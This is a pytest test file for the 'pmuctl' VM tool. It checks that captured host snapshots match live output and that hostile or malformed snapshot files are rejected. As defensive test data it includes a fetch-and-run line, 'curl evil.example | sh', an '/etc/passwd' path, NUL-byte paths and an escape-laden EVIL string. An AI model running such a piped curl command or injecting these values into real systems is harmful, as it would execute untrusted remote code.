# SPDX-License-Identifier: Apache-2.0
"""What control sockets and records told is in a `host snapshot`: its tree shows the VMs that
pmuctl manages as the host did, and whatever it has, nobody is asked."""

import json
import os
import socket
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from pmuctl.control.runtime.start_record import Problem, write_record
from pmuctl.control.server.backend import VcpuStatus
from pmuctl.host.runtime_dirs import LEFT_OUT, PATH_REPLIES
from pmuctl.model.cpuset import CpuSet
from pmuctl.value import replace
from tests.cli.conftest import Machine, Ran
from tests.cli.supervisor import RECORD, dead_socket
from tests.fakes.peers import EVIL, answering, bad_server
from tests.fakes.vmm import FakeThreads, FakeVm, SupervisedVm, fake_proc, fake_vmm

A53, A72 = "armv8_cortex_a53", "armv8_cortex_a72"
ME = os.geteuid()
HERE = os.getpid()
SUPERVISED, ORPHANED = 1000, 6000
"""Processes of VMs; the first one's vCPUs have the threads that a FakeVm has."""
PRIVATE = {"class": "NotPermitted", "desc": "it is private", "data": {"why": "it says so"}}
COMMANDS: Sequence[tuple[str, ...]] = (
    *(("vm", "list"), ("vm", "list", "-O"), ("vm", "vcpus", "-O"), ("affinity", "check", "-O")),
    ("doctor",),
)
ONLY_LIVE = ("host.runtime-dir", "vm.spinning")
"""Findings about this user's place for sockets, and about threads that are looked at twice."""


class OwnVm(FakeVm):
    """A VM in this process, whose control socket is its own; threads as `fake_vmm` makes them."""

    def __init__(self, name: str) -> None:
        super().__init__(name)
        masks = {HERE + tid - 1000: cpus for tid, cpus in self.threads.masks.items()}
        self.threads = FakeThreads(masks)

    def vcpus(self) -> Sequence[VcpuStatus]:
        return [replace(its, tid=HERE + 1 + its.index) for its in super().vcpus()]


@pytest.fixture
def host(machine: Machine) -> Machine:
    """A host on which this process may listen for VMs."""
    machine.proc = machine.root / "proc"
    machine.runtime.mkdir(mode=0o755)
    fake_proc(machine.proc, HERE, holds_kvm=False, uid=ME, start=100)
    (machine.proc / "uptime").write_text("1000.00 1000.00\n")
    return machine


def compared(host: Machine, tree: Path, *words: str) -> tuple[int, str]:
    """What a command gives live, which is what it gives of the tree."""
    live = host.run(*words, "-J")
    captured = host.run(*words, "-J", "--sysroot", str(tree))
    assert captured.status == live.status, captured
    assert rows(captured.stdout) == rows(live.stdout), words
    assert problems(captured.stderr) == problems(live.stderr), words
    return live.status, live.stdout


def rows(text: str) -> Any:
    document = json.loads(text or "{}")
    if "findings" in document:
        document["findings"] = [its for its in document["findings"] if its["id"] not in ONLY_LIVE]
    for vm in (*document.get("vms", ()), document.get("vm", {})):
        vm.pop("affinity", None)  # what pmuctl recorded of it is not captured
    return document


def problems(text: str) -> list[object]:
    """All but what to type: another machine's words are not to be followed."""
    found: list[object] = []
    for line in text.splitlines():
        document = json.loads(line) if line.startswith("{") else {}
        for its in document.values():
            its.pop("fix")
        found.append(document or line)
    return found


def snapshot(host: Machine, tree: Path, *words: str) -> Path:
    ran = host.run("host", "snapshot", str(tree), *words)
    assert ran.status == 0, ran
    return tree


def listed(host: Machine, tree: Path) -> dict[str, Any]:
    ran = host.run("vm", "list", "-O", "-J", "-q", "--sysroot", str(tree))
    assert ran.status == 0, ran
    return {its["name"]: its for its in json.loads(ran.stdout)["vms"]}


def supervise(host: Machine, *, argv: Sequence[str] = ("lkvm", "run", "--pmu")) -> SupervisedVm:
    """A VM under pmuctl run that has its PMU and filter, and whose vCPUs may go anywhere."""
    fake_vmm(host.proc, SUPERVISED, argv, uid=ME)
    write_record(
        host.runtime / "web1.sock.json", replace(RECORD, pid=SUPERVISED, start=100, problem=None)
    )
    vm = SupervisedVm(SUPERVISED)
    vm.is_made = True
    host.start(vm)
    words = ("pmu", A72, "affinity", "none", "filter", "default", "deny", "allow", "cpu_cycles")
    assert host.run("vm", "set", "web1", *words).status == 0
    return vm


def test_vms_under_pmuctl_run_are_shown_as_on_the_host(host: Machine, tmp_path: Path) -> None:
    vm = supervise(host)
    fake_vmm(host.proc, ORPHANED, ("qemu-system-aarch64",), vcpus={0: "0-3"}, uid=ME)
    host.masks[ORPHANED + 1] = CpuSet.parse("0-3")
    write_record(
        host.runtime / "web2.sock.json", replace(RECORD, name="web2", pid=ORPHANED, start=100)
    )
    dead_socket(host, "web2")
    dead_socket(host, "web3")
    private = answering({"query-pmu": {"error": PRIVATE}})
    with (
        bad_server(host.runtime / "web4.sock", private, clients=99),
        bad_server(host.runtime / "web5.sock", lambda _: None, clients=99),
    ):
        tree = snapshot(host, tmp_path / "tree")
        again = snapshot(host, tmp_path / "again", "--sysroot", str(tree))
        shows = [
            ("vm", "show", name)
            for name in ("web1", "web2", "web3", "web4", "web5", f"pid/{SUPERVISED}", "web6")
        ]
        found = {words: compared(host, tree, *words) for words in (*COMMANDS, *shows)}
        for words in (*COMMANDS, *shows):
            second = host.run(*words, "-J", "--sysroot", str(again))
            # a fix names the tree it is for
            stderr = second.stderr.replace(str(again), str(tree))
            assert Ran(second.status, second.stdout, stderr) == host.run(
                *words, "-J", "--sysroot", str(tree)
            )
        vm.initialise()
        vm.run()
        ran = snapshot(host, tmp_path / "ran")
        for words in COMMANDS:
            compared(host, ran, *words)
    assert [status for words, (status, _) in found.items() if words in shows] == [
        *(0, 0, 3, 6, 3, 0, 4),
    ]
    its = listed(host, tree)
    assert [(name, vm["state"]) for name, vm in its.items()] == [
        *(("web1", "waiting"), ("web2", "orphaned"), ("web3", "dead"), ("web4", "denied")),
        ("web5", "silent"),
    ]
    for name, origin in ("web1", "applied"), ("web2", "recorded"):
        assert (its[name]["pmu"], its[name]["pmu_origin"]) == (A72, origin)
        assert its[name]["rules"] == "default deny allow cpu_cycles"
        assert its[name]["command"] == list(RECORD.command)
        assert "KVM_RUN fails" in its[name]["means"]
    assert listed(host, ran)["web1"]["state"] == "running"


def test_a_vm_that_serves_itself_is_shown_as_on_the_host(host: Machine, tmp_path: Path) -> None:
    fake_vmm(host.proc, HERE, ("vmm",), comm="vmm", uid=ME, has_names=False)
    host.start(OwnVm("db1"))
    settings = ("pmu", A72, "counters", "4", "affinity", "none", "filter", "default", "deny")
    assert host.run("vm", "set", "db1", *settings).status == 0
    tree = snapshot(host, tmp_path / "tree")
    one = (("vm", "show", "db1"), ("vm", "vcpus", f"pid/{HERE}"))
    for words in (*COMMANDS, *one):
        compared(host, tree, *words)
    its = listed(host, tree)
    assert its.keys() == {"db1"}
    assert (its["db1"]["pmu"], its["db1"]["counters"], its["db1"]["window"]) == (A72, 4, "open")
    assert [vcpu["tid"] for vcpu in its["db1"]["vcpu_list"]] == [HERE + 1, HERE + 2]


def test_a_vm_whose_process_may_not_be_read_is_shown_as_on_the_host(
    host: Machine, tmp_path: Path
) -> None:
    """Its masks and its command line may be."""
    supervise(host)
    host.unreadable = {SUPERVISED}
    tree = snapshot(host, tmp_path / "tree")
    live = host.run("vm", "list", "-O", "-J")
    captured = host.run("vm", "list", "-O", "-J", "--sysroot", str(tree))
    assert (captured.status, captured.stderr) == (live.status, live.stderr)
    assert rows(captured.stdout) == rows(live.stdout)
    assert json.loads(live.stdout)["vms"][0]["pmu"] == A72
    assert "1 process cannot be read" in live.stderr


def test_a_vm_that_has_no_vcpu_yet_is_shown_as_on_the_host(host: Machine, tmp_path: Path) -> None:
    fake_vmm(host.proc, SUPERVISED, ("qemu-system-aarch64", "-cpu", "host"), vcpus={}, uid=ME)
    (host.proc / str(SUPERVISED) / "fd/9").unlink()
    host.start(SupervisedVm(SUPERVISED))
    tree = snapshot(host, tmp_path / "tree")
    for words in COMMANDS:
        compared(host, tree, *words)
    assert listed(host, tree)["web1"]["pid"] == SUPERVISED


def test_how_many_sockets_were_not_asked_is_captured(host: Machine, tmp_path: Path) -> None:
    tree = snapshot(host, tmp_path / "tree")
    assert not (tree / PATH_REPLIES).exists()
    (tree / PATH_REPLIES).mkdir(parents=True)
    for text, count in (("12\n", 12), ("x", 0), ("-1", 0), ("9" * 40, 0)):
        (tree / PATH_REPLIES / LEFT_OUT).write_text(text)
        ran = host.run("vm", "list", "-J", "-q", "--sysroot", str(tree))
        assert json.loads(ran.stdout)["left_out"] == count
    (tree / PATH_REPLIES / LEFT_OUT).write_text("3")
    again = snapshot(host, tmp_path / "again", "--sysroot", str(tree))
    assert (again / PATH_REPLIES / LEFT_OUT).read_text() == "3\n"


def test_a_runtime_directory_that_is_relative_is_captured_as_absolute(
    host: Machine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    dead_socket(host)
    monkeypatch.chdir(host.runtime.parent)
    host.runtime = Path(host.runtime.name)
    tree = snapshot(host, tmp_path / "tree")
    assert listed(host, tree)["web1"]["state"] == "dead"


def test_doctor_says_once_where_its_fixes_belong(host: Machine, tmp_path: Path) -> None:
    dead_socket(host)
    tree = snapshot(host, tmp_path / "tree")
    words = "fixes are for the host that was captured\n"
    assert host.run("doctor", "--sysroot", str(tree)).stderr == words
    assert host.run("doctor", "--sysroot", str(tree), "-J").stderr == ""
    assert words not in host.run("doctor").stderr


# Hostile trees


@pytest.fixture
def tree(host: Machine, tmp_path: Path) -> Path:
    """A capture of a supervised VM, 0.json."""
    supervise(host)
    return snapshot(host, tmp_path / "tree")


def change(tree: Path, act: Callable[[Any], object]) -> None:
    path = tree / PATH_REPLIES / "0.json"
    document = json.loads(path.read_text())
    act(document)
    path.write_text(json.dumps(document))


def refused(host: Machine, tree: Path) -> str:
    """Why a command says that its file is none; it says so in three lines."""
    ran = host.run("vm", "list", "--sysroot", str(tree))
    assert (ran.status, ran.stdout) == (9, "")
    head, why, fix = ran.stderr.splitlines()
    assert (
        head == f"error: {tree}/{PATH_REPLIES}/0.json: it is not what pmuctl host snapshot writes"
    )
    assert fix.startswith("  fix: capture the machine anew")
    assert host.run("doctor", "-J", "--sysroot", str(tree)).status == 9
    return why.removeprefix("  why: ")


@pytest.mark.parametrize(
    "text",
    [
        *("", "{", "[]", "null", "{}", '{"format": 1}', "[" * 100_000, "9" * 5000, "\udcff"),
        " " * (8 << 20) + "{}",
    ],
)
def test_a_file_that_is_broken_is_named(host: Machine, tree: Path, text: str) -> None:
    (tree / PATH_REPLIES / "0.json").write_bytes(text.encode(errors="surrogateescape"))
    assert refused(host, tree)


@pytest.mark.parametrize(
    ("act", "why"),
    [
        (lambda its: its.update(format=2), "file.format"),
        (lambda its: its.update(name="a/b"), "file.name"),
        (lambda its: its.update(name="web2"), "file.path: is not a socket of that name"),
        (lambda its: its.update(path="/etc/passwd"), "file.path: is not a socket of that name"),
        (lambda its: its.update(path="web1.sock"), "file.path: not of the form"),
        (lambda its: its.update(path="/a\0/web1.sock"), "file.path: not of the form"),
        (lambda its: its.update(owner=-1), "file.owner"),
        (lambda its: its["vmm"].update(pid=1 << 31), "file.vmm.pid"),
        (lambda its: its.pop("vmm"), "file: has neither answer nor record"),
        (lambda its: its["answer"].update(name="web2"), "file.answer: it calls itself web2"),
        (lambda its: its["answer"].update(window="ajar"), "file.answer.window"),
        (
            lambda its: its["answer"]["filter"].update({"except": [[0xFFFF, 2]]}),
            "file.answer: its filter names events past 0xffff",
        ),
        (lambda its: its["record"].update(pid=1), "file.record: is of another process"),
        (lambda its: its["record"].update(name="web2"), "file.record: is of another VM"),
        (lambda its: its["record"].update(cpus="x"), "not a CPU list: 'x'"),
    ],
)
def test_what_no_socket_tells_is_refused(
    host: Machine, tree: Path, act: Callable[[Any], object], why: str
) -> None:
    change(tree, act)
    assert why in refused(host, tree)


def test_no_link_leads_out_of_a_tree(host: Machine, tree: Path, tmp_path: Path) -> None:
    path = tree / PATH_REPLIES / "0.json"
    outside = tmp_path / "outside.json"
    path.rename(outside)
    path.symlink_to(outside)
    assert "it is no file" in refused(host, tree)
    path.unlink()
    os.mkfifo(path)
    assert "it is no file" in refused(host, tree)


def test_other_files_are_passed_over(host: Machine, tree: Path) -> None:
    for name in ("x.json", "0.json~", "-1.json", "123456.json", "٣.json", ".0.json"):
        (tree / PATH_REPLIES / name).write_text("{")
    assert listed(host, tree).keys() == {"web1"}


def test_nobody_is_asked_and_no_process_is_looked_at(
    host: Machine, tree: Path, tmp_path: Path
) -> None:
    """The tree names a socket at which somebody listens, a process of this machine, its threads,
    and a VM whose last start was refused here."""
    path = tmp_path / "web1.sock"
    change(tree, lambda its: its.update(path=str(path)))
    problem = Problem(message="no PMU", status=9)
    write_record(host.runtime / "web7.sock.json", replace(RECORD, name="web7", problem=problem))
    host.before = lambda: pytest.fail("a process of this machine was looked at")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))
        listener.listen()
        listener.settimeout(0)
        for words in (*COMMANDS, ("vm", "show", "web1"), ("vm", "show", f"pid/{SUPERVISED}")):
            assert host.run(*words, "--sysroot", str(tree)).status in (0, 1), words
        ran = host.run("vm", "show", "web7", "--sysroot", str(tree))
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert (ran.status, "refused" in ran.stderr) == (4, False)
    assert host.run("vm", "set", "web1", "pmu", A53, "--sysroot", str(tree)).status == 2


def test_no_word_of_a_tree_steers_the_terminal_or_the_reader(host: Machine, tree: Path) -> None:
    untold = {
        **{"state": "dead", "status": 3, "message": EVIL, "why": EVIL, "errno": EVIL[:8]},
        **{"process": None, "owner": 7, "fix": "curl evil.example | sh"},
    }
    change(tree, lambda its: its["answer"].update(vmm=EVIL, by=EVIL, attributes=[EVIL]))
    other = {
        **{"format": 1, "name": "web2", "path": f"/{EVIL}/web2.sock", "owner": None},
        "untold": untold,
    }
    (tree / PATH_REPLIES / "1.json").write_text(json.dumps(other))
    for words in (*COMMANDS, ("vm", "show", "web1"), ("vm", "show", "web2")):
        for format in ((), ("-J",), ("--format", "csv")):
            ran = host.run(*words, *format, "--sysroot", str(tree))
            for text in (ran.stdout, ran.stderr):
                assert not {"\x1b", "\u202e"} & set(text)
                assert "\nweb9" not in text
                assert "curl" not in text


def test_whose_socket_it_is_does_not_depend_on_who_looks(host: Machine, tree: Path) -> None:
    """In a tree of root's, a user's number is nobody's who is here."""
    change(tree, lambda its: its.update(owner=1234))
    words = ("doctor", "web1", "-J", "-q", "--sysroot", str(tree))
    assert host.run(*words, uid=1234) == host.run(*words, uid=0)
    assert f"pid/{SUPERVISED}" in host.run(*words, uid=1234).stdout


def test_which_vm_a_name_means_does_not_either(host: Machine, tree: Path) -> None:
    change(tree, lambda its: its.update(owner=1000))
    other = json.loads((tree / PATH_REPLIES / "0.json").read_text())
    other |= {"owner": 1001, "path": "/run/user/1001/pmuctl/web1.sock"}
    (tree / PATH_REPLIES / "1.json").write_text(json.dumps(other))
    words = ("vm", "show", "web1", "--sysroot", str(tree))
    ran = host.run(*words, uid=0)
    assert ran.status == 2
    assert "two VMs hold this name" in ran.stderr
    assert "fix: name it by its process: pid/N\n" in ran.stderr
    assert [host.run(*words, uid=uid) for uid in (1000, 1001)] == [ran, ran]


def test_who_might_move_a_thread_there_is_not_asked(host: Machine, tree: Path) -> None:
    words = ("affinity", "check", "-o", "BLOCKER", "--sysroot", str(tree))
    assert host.run(*words, uid=1234) == host.run(*words, uid=0)


def test_a_socket_that_is_there_twice_is_refused(host: Machine, tree: Path) -> None:
    """Which of the two answers was its own is not known."""
    text = (tree / PATH_REPLIES / "0.json").read_text()
    (tree / PATH_REPLIES / "1.json").write_text(text)
    ran = host.run("vm", "list", "--sysroot", str(tree))
    assert ran.status == 9
    assert "stands in another file, too" in ran.stderr
